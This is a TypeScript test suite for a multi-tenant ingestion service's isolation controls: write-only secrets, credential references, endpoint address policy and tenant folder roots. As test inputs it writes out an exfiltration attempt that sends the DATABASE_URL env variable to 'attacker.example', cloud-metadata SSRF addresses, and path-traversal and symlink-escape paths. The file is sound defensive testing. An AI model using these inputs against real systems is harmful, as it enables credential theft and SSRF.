import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { inProcessClient } from '../../src/api/in-process.js';
import { ensureTenant } from '../../src/auth/tokens.js';
import { projectRoot } from '../../src/tenancy/roots.js';
import {
  type Harness,
  jsonLines,
  minioConnectionConfig,
  startHarness,
  storeMinioCredentials,
} from '../helpers/harness.js';

/**
 * A tenant uses only what the operator allows it: credentials by reference (stored secrets, or env
 * variables under its prefixes), endpoints the address policy allows, folders under its own roots.
 */
let h: Harness;
let rootA: string;
let rootB: string;
let outside: string;
const s3 = inject('s3');

beforeAll(async () => {
  rootA = await mkdtemp(path.join(tmpdir(), 'tenancy-a-'));
  rootB = await mkdtemp(path.join(tmpdir(), 'tenancy-b-'));
  outside = await mkdtemp(path.join(tmpdir(), 'tenancy-out-'));
  h = await startHarness({ localSourceRoots: [rootA] });
  await storeMinioCredentials(h.api, s3);
});
afterAll(async () => {
  await h?.close();
  await Promise.all([rootA, rootB, outside].map((d) => rm(d, { recursive: true, force: true })));
});

type ErrorBody = { error_code: string; field?: string; detail: string };
const s3Config = (over: Record<string, unknown>) => ({ ...minioConnectionConfig(s3), ...over });
const createS3 = (config: Record<string, unknown>) =>
  h.api<ErrorBody & { id: string; problems: ErrorBody[] }>('POST', '/api/v1/connections', {
    name: `c-${Math.random().toString(36).slice(2, 10)}`,
    kind: 's3',
    config,
  });

describe('secrets', () => {
  it('are write-only, sealed at rest, named once, rotated with PUT, and not deleted while named', async () => {
    const created = await h.api<Record<string, unknown>>('POST', '/api/v1/secrets', {
      name: 'api-key',
      value: 'sup3r-s3cret-value',
    });
    expect(created.status).toBe(201);
    expect(Object.keys(created.body).sort()).toEqual(['created_at', 'name', 'updated_at']);
    const again = await h.api<ErrorBody>('POST', '/api/v1/secrets', { name: 'api-key', value: 'x' });
    expect(again.status).toBe(409);
    expect(again.body.error_code).toBe('NAME_TAKEN');

    const list = await h.api<{ items: Record<string, unknown>[] }>('GET', '/api/v1/secrets');
    expect(JSON.stringify(list.body)).not.toContain('sup3r');
    const [row] = await h.sql<{ sealed: Buffer }[]>`
      select sealed from autoloader.secrets where tenant_id = ${h.tenantId} and name = 'api-key'`;
    expect(row!.sealed.includes(Buffer.from('sup3r-s3cret-value'))).toBe(false);
    // Another tenant's row with this ciphertext would not open: it is bound to tenant and name.
    const rotated = await h.api('PUT', '/api/v1/secrets/api-key', { value: 'rotated' });
    expect(rotated.status).toBe(200);

    // A connection naming the MinIO secrets keeps them from being deleted.
    const conn = await createS3(s3Config({}));
    expect(conn.status).toBe(201);
    const del = await h.api<ErrorBody>('DELETE', '/api/v1/secrets/minio-secret-key');
    expect(del.status).toBe(409);
    expect((await h.api('DELETE', '/api/v1/secrets/api-key')).status).toBe(204);
  });
});

describe('credential references and endpoints', () => {
  it('refuses the exfiltration request: a server env variable as the key id, sent to a host the tenant controls', async () => {
    const res = await createS3(
      s3Config({ endpoint: 'http://attacker.example:9000', access_key_id: { env: 'DATABASE_URL' } }),
    );
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error_code: 'SECRET_NOT_ALLOWED', field: 'config.access_key_id' });
    const legacy = await createS3({
      ...s3Config({}),
      access_key_id: undefined,
      access_key_id_env: 'DATABASE_URL',
    });
    expect(legacy.status).toBe(400);
    expect(legacy.body.error_code).toBe('SECRET_NOT_ALLOWED');
  });

  it.each([
    ['the metadata address', 'http://169.254.169.254'],
    ['the AWS IPv6 metadata address', 'http://[fd00:ec2::254]'],
    ['a link-local address', 'http://169.254.10.1:9000'],
    ['metadata behind an IPv4-mapped IPv6 address', 'http://[::ffff:169.254.169.254]'],
  ])('refuses %s as an endpoint, whatever the operator allows', async (_label, endpoint) => {
    const res = await createS3(s3Config({ endpoint }));
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error_code: 'ENDPOINT_NOT_ALLOWED', field: 'config.endpoint' });
  });

  it('does not lend the service’s own identity to a connection without credentials, unless the operator allows it', async () => {
    const bare = { endpoint: s3.endpoint, region: s3.region, force_path_style: true };
    const refused = await createS3(bare);
    expect(refused.status).toBe(400);
    expect(refused.body.error_code).toBe('SECRET_NOT_ALLOWED');

    // A connection stored before the rule (or before the operator changed the policy) is kept,
    // flagged, and refused when used.
    const bucket = await h.createBucket();
    await h.putObject(bucket, 'a.jsonl', jsonLines(0, 5));
    const [inserted] = await h.sql<{ id: string }[]>`
      insert into autoloader.connections (id, tenant_id, name, kind, config)
      values (${`conn_legacy_${bucket}`}, ${h.tenantId}, ${`legacy-${bucket}`}, 's3', ${h.sql.json(bare)})
      returning id`;
    const connectionId = inserted!.id;
    const listed = await h.api<{ items: { id: string; problems: ErrorBody[] }[] }>(
      'GET',
      '/api/v1/connections',
    );
    expect(listed.body.items.find((c) => c.id === connectionId)!.problems).toEqual([
      expect.objectContaining({ error_code: 'SECRET_NOT_ALLOWED' }),
    ]);
    const ing = await h.api<{ id: string }>('POST', '/api/v1/ingestions', {
      name: `legacy-${bucket}`,
      connection_id: connectionId,
      source: { bucket, format: 'jsonl' },
      destination: `raw.legacy_${bucket.replaceAll('-', '_')}`.slice(0, 60),
    });
    expect(ing.status).toBe(201);
    const run = await h.api<ErrorBody>('POST', `/api/v1/ingestions/${ing.body.id}/run`);
    expect(run.status).toBe(400);
    expect(run.body.error_code).toBe('SECRET_NOT_ALLOWED');

    // Allowed by the operator: the default chain (here MinIO's keys in the worker's environment).
    await h.sql`update autoloader.tenants set policy = policy || '{"allow_default_credentials": true}' where id = ${h.tenantId}`;
    Object.assign(process.env, { AWS_ACCESS_KEY_ID: s3.accessKey, AWS_SECRET_ACCESS_KEY: s3.secretKey });
    try {
      expect(await h.runAndWait(ing.body.id)).toMatchObject({ status: 'SUCCESS', records_written: 5 });
    } finally {
      delete process.env.AWS_ACCESS_KEY_ID;
      delete process.env.AWS_SECRET_ACCESS_KEY;
      await h.sql`update autoloader.tenants set policy = policy - 'allow_default_credentials' where id = ${h.tenantId}`;
    }
  });

  it('uses env references under the tenant’s prefixes only', async () => {
    process.env.TENANCY_T1_KEY = s3.accessKey;
    process.env.TENANCY_T1_SECRET = s3.secretKey;
    const config = s3Config({
      access_key_id: { env: 'TENANCY_T1_KEY' },
      secret_access_key: { env: 'TENANCY_T1_SECRET' },
    });
    expect((await createS3(config)).body.error_code).toBe('SECRET_NOT_ALLOWED');
    await h.sql`update autoloader.tenants set policy = policy || '{"env_prefixes": ["TENANCY_T1_"]}' where id = ${h.tenantId}`;
    const ok = await createS3(config);
    expect(ok.status).toBe(201);
    const tested = await h.api<{ ok: boolean; checks: { name: string; ok: boolean }[] }>(
      'POST',
      `/api/v1/connections/${ok.body.id}/test`,
      { bucket: await h.createBucket() },
    );
    expect(tested.body).toMatchObject({ ok: true });
    expect(tested.body.checks.map((c) => c.name)).toEqual(['endpoint', 'credentials', 'list']);
  });
});

describe('local folders', () => {
  it('are the tenant’s own roots: everything else gets the same PATH_NOT_ALLOWED', async () => {
    await mkdir(path.join(rootA, 'events'));
    await writeFile(path.join(outside, 'secret.csv'), 'token\nal_leaked\n');
    await symlink(outside, path.join(rootA, 'escape'));
    // Another tenant, with its own root.
    await ensureTenant(h.db, 'tenancy_other', 'other', { local_roots: [rootB] });
    const refused = [
      path.join(projectRoot, '.autoloader'),
      '.autoloader',
      `${rootA}/..`,
      outside,
      path.join(rootA, 'escape'),
      rootB,
      '/etc',
    ];
    for (const p of refused) {
      const res = await h.api<ErrorBody>('POST', '/api/v1/connections', {
        name: `l-${Math.random().toString(36).slice(2, 8)}`,
        kind: 'local',
        config: { path: p },
      });
      expect(res.status, p).toBe(400);
      expect(res.body, p).toMatchObject({
        error_code: 'PATH_NOT_ALLOWED',
        detail: 'config.path is not a folder this tenant may read',
      });
    }
    const ok = await h.api('POST', '/api/v1/connections', {
      name: 'mine',
      kind: 'local',
      config: { path: path.join(rootA, 'events') },
    });
    expect(ok.status).toBe(201);
  });

  it('check realpath on every open: a file swapped for a symlink out fails, and nothing is read from outside', async () => {
    const folder = path.join(rootA, 'swap');
    await mkdir(folder);
    await writeFile(path.join(folder, 'a.jsonl'), jsonLines(0, 3));
    const conn = await h.api<{ id: string }>('POST', '/api/v1/connections', {
      name: 'swap',
      kind: 'local',
      config: { path: folder },
    });
    const ing = await h.api<{ id: string }>('POST', '/api/v1/ingestions', {
      name: 'swap',
      connection_id: conn.body.id,
      source: { format: 'jsonl' },
      destination: 'raw.tenancy_swap',
    });
    expect(await h.runAndWait(ing.body.id)).toMatchObject({ status: 'SUCCESS', records_written: 3 });
    await writeFile(path.join(outside, 'b.jsonl'), jsonLines(100, 7));
    await symlink(path.join(outside, 'b.jsonl'), path.join(folder, 'b.jsonl'));
    // The walk skips symlinks; a symlinked folder on the way out is refused when opened.
    await symlink(outside, path.join(folder, 'sub'));
    const run = await h.runAndWait(ing.body.id);
    expect(run.records_written).toBe(0);
    const [count] = await h.sql`select count(*)::int as n from raw.tenancy_swap`;
    expect(count!.n).toBe(3);
  });
});

describe('the address policy at the API', () => {
  it('refuses an endpoint on a private address when the operator does not allow private endpoints', async () => {
    const strict = h.makeApp({ address: { allowPrivate: false, allowList: [] } });
    const api = inProcessClient(strict, h.token);
    const res = await api<ErrorBody>('POST', '/api/v1/connections', {
      name: 'private',
      kind: 's3',
      config: s3Config({}),
    });
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error_code: 'ENDPOINT_NOT_ALLOWED', field: 'config.endpoint' });
    // An allow-list admits only what it names.
    const listed = h.makeApp({ address: { allowPrivate: true, allowList: ['*.example.com'] } });
    const other = await inProcessClient(listed, h.token)<ErrorBody>('POST', '/api/v1/connections', {
      name: 'not-listed',
      kind: 's3',
      config: s3Config({}),
    });
    expect(other.body.error_code).toBe('ENDPOINT_NOT_ALLOWED');
  });
});
